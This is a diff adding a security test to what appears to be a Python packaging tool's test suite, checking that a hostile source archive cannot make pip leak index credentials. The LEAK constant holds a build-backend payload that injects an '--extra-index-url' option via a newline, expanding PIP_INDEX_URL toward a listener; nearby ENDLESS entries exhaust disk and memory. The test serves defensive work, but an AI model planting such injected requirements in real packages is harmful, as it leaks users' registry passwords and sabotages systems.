@@ -148,6 +148,22 @@ def test_source_that_the_index_has_is_built_without_a_network_too(
     assert prey.is_untouched()
 
 
+LEAK = """
+def get_requires_for_build_wheel(config_settings=None):
+    return ["six;\\n--extra-index-url http://127.0.0.1:PORT/${PIP_INDEX_URL}/\\nsix"]
+"""
+
+
+def test_source_archive_sends_pip_nowhere(quick: str, tmp_path: Path, prey: Prey, named: str) -> None:
+    """The addresses of indexes hold passwords, and pip takes options and variables from a file of requirements."""
+    port = str(prey.listener.getsockname()[1])
+    archive = make_source(tmp_path, "hostile", LEAK.replace("PORT", port))
+    settings = {"PIP_INDEX_URL": "http://me:password@127.0.0.1:9/simple", "PIP_RETRIES": "0", "PIP_FIND_LINKS": ""}
+    said = refused("--from", "python", "--engine", quick, "--with", str(archive), **settings)
+    assert "hostile-1.0.tar.gz needs 'six;" in said
+    assert prey.is_untouched()
+
+
 ENDLESS = {
     "files": "with open('/mnt/data/fill', 'wb') as file:\n    while True: file.write(bytes(2**20))",
     "memory": "kept = bytearray(2**40)",
